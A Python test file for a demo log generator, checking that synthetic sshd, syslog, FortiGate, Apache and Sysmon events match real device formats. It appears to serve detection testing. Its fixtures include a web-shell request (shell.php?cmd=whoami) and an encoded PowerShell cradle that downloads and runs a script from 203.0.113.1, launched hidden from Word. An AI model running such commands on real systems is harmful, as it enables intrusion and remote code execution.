"""The demo's log lines have the exact shapes real devices produce."""

from __future__ import annotations

import base64
import csv
import re
from datetime import UTC, datetime

import orjson
import pytest
from shared_data import SHARED_DATA

from collectors.demo import device_logs, syslog_wire
from collectors.demo.device_logs import ProcessCreation, TrafficLog

LOGHUB_SSH = SHARED_DATA / "syslog/loghub/OpenSSH"
MOMENT = datetime(2026, 3, 5, 1, 2, 3, 456789, tzinfo=UTC)  # 08:02:03 in Đà Nẵng


def test_rfc3164_matches_a_real_linux_auth_line_byte_for_byte_in_shape() -> None:
    ours = syslog_wire.rfc3164(
        priority=syslog_wire.AUTH_INFO,
        moment=MOMENT,
        hostname="srv-syt-01",
        tag="sshd",
        pid=24200,
        message="Invalid user webmaster from 203.0.113.5",
    )
    assert (
        ours
        == b"<38>Mar  5 01:02:03 srv-syt-01 sshd[24200]: Invalid user webmaster from 203.0.113.5"
    )
    real = (LOGHUB_SSH / "OpenSSH_2k.log").read_text().splitlines()[1]
    shape = r"[A-Z][a-z]{2} [ \d]\d \d\d:\d\d:\d\d \S+ sshd\[\d+\]: Invalid user \S+ from \S+"
    assert re.fullmatch(shape, real)
    assert re.fullmatch(r"<38>" + shape, ours.decode())


def test_rfc5424_carries_local_time_with_its_offset() -> None:
    ours = syslog_wire.rfc5424(
        priority=syslog_wire.AUTH_INFO,
        moment=MOMENT,
        hostname="srv-stttt-01",
        app_name="sshd",
        procid=812,
        message="Accepted password for quantri from 10.10.2.5 port 50022 ssh2",
    )
    assert ours == (
        b"<38>1 2026-03-05T08:02:03.456789+07:00 srv-stttt-01 sshd 812 - - "
        b"Accepted password for quantri from 10.10.2.5 port 50022 ssh2"
    )


def test_tcp_framings_follow_rfc_6587() -> None:
    message = "<14>1 - hé".encode()
    assert syslog_wire.octet_counted(message) == b"11 " + message  # the count is of bytes
    assert syslog_wire.line_framed(b"<38>x") == b"<38>x\n"


def _templates() -> list[re.Pattern[str]]:
    with (LOGHUB_SSH / "OpenSSH_2k.log_templates.csv").open() as fh:
        return [
            re.compile(re.escape(row["EventTemplate"]).replace(re.escape("<*>"), ".+?") + "$")
            for row in csv.DictReader(fh)
        ]


@pytest.mark.parametrize(
    "line",
    [
        device_logs.sshd_failed_password("root", "203.0.113.5", 40022),
        device_logs.sshd_failed_password("oracle", "203.0.113.5", 40022, invalid_user=True),
        device_logs.sshd_invalid_user("oracle", "203.0.113.5", 40022),
        device_logs.sshd_accepted("nguyenvana", "10.20.5.14", 50022),
    ],
)
def test_sshd_lines_match_templates_mined_from_a_real_sshd_log(line: str) -> None:
    assert any(template.match(line) for template in _templates()), line


def test_sshd_publickey_login_has_openssh_s_key_suffix() -> None:
    line = device_logs.sshd_accepted("deploy", "10.10.2.5", 50022, key_fingerprint="SHA256:abc")
    assert (
        line == "Accepted publickey for deploy from 10.10.2.5 port 50022 ssh2: ED25519 SHA256:abc"
    )


def test_fortigate_traffic_log_is_fortios_7_default_format() -> None:
    log = TrafficLog(
        "203.0.113.9", 40100, "10.20.1.17", 3389, "deny", "RDP", policy_id=0, inbound=True
    )
    data = device_logs.fortigate_traffic(
        log, moment=MOMENT, devname="FGT-SYT", devid="FG100FTK22000020", session_id=4242
    ).decode()
    assert data.startswith(
        '<189>date=2026-03-05 time=08:02:03 devname="FGT-SYT" devid="FG100FTK22000020" '
        "eventtime=1772672523456789000 "
    )
    pairs = dict(re.findall(r'(\w+)=("[^"]*"|\S+)', data.removeprefix("<189>")))
    assert list(pairs)[:11] == [
        "date", "time", "devname", "devid", "eventtime", "tz", "logid", "type", "subtype",
        "level", "vd",
    ]  # fmt: skip
    assert pairs["logid"] == '"0000000013"'
    assert (pairs["type"], pairs["subtype"], pairs["action"]) == (
        '"traffic"',
        '"forward"',
        '"deny"',
    )
    assert (pairs["srcip"], pairs["dstip"], pairs["dstport"]) == (
        "203.0.113.9",
        "10.20.1.17",
        "3389",
    )
    assert (pairs["srcintf"], pairs["dstintf"], pairs["proto"]) == ('"wan1"', '"internal"', "6")
    assert (pairs["policyid"], pairs["sentbyte"], pairs["rcvdbyte"]) == ("0", "0", "0")


def test_apache_combined_line() -> None:
    line = device_logs.apache_combined(
        client="203.0.113.7",
        moment=MOMENT,
        method="GET",
        target="/uploads/shell.php?cmd=whoami",
        status=200,
        size=57,
        user_agent="curl/8.5.0",
    )
    assert line == (
        '203.0.113.7 - - [05/Mar/2026:08:02:03 +0700] "GET /uploads/shell.php?cmd=whoami '
        'HTTP/1.1" 200 57 "-" "curl/8.5.0"'
    )


def test_sysmon_process_creation_is_a_winlogbeat_document() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.1/a.ps1')"
    encoded = device_logs.powershell_encoded(script)
    event = ProcessCreation(
        host="PC-SYT-07",
        host_ip="10.20.5.7",
        domain="SYT",
        user="tranthibich",
        image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        command_line=f"powershell.exe -nop -w hidden -enc {encoded}",
        parent_image=r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        parent_command_line="WINWORD.EXE /n x.docm",
        pid=4242,
        parent_pid=1200,
        record_id=77,
    )
    text = device_logs.sysmon_process_creation(event, moment=MOMENT)
    assert "\n" not in text  # one line: safe in any framing
    doc = orjson.loads(text)
    assert doc["@timestamp"] == "2026-03-05T01:02:03.456Z"
    assert doc["host"]["ip"] == ["10.20.5.7"]
    winlog = doc["winlog"]
    assert (winlog["channel"], winlog["event_id"]) == ("Microsoft-Windows-Sysmon/Operational", "1")
    data = winlog["event_data"]
    assert data["Image"].endswith("\\powershell.exe")
    assert data["OriginalFileName"] == "PowerShell.EXE"
    assert data["ParentImage"].endswith("\\WINWORD.EXE")
    assert data["User"] == "SYT\\tranthibich"
    assert data["ProcessId"] == "4242"  # Winlogbeat keeps event data as strings
    assert data["UtcTime"] == "2026-03-05 01:02:03.456"
    assert base64.b64decode(data["CommandLine"].split()[-1]).decode("utf-16-le") == script
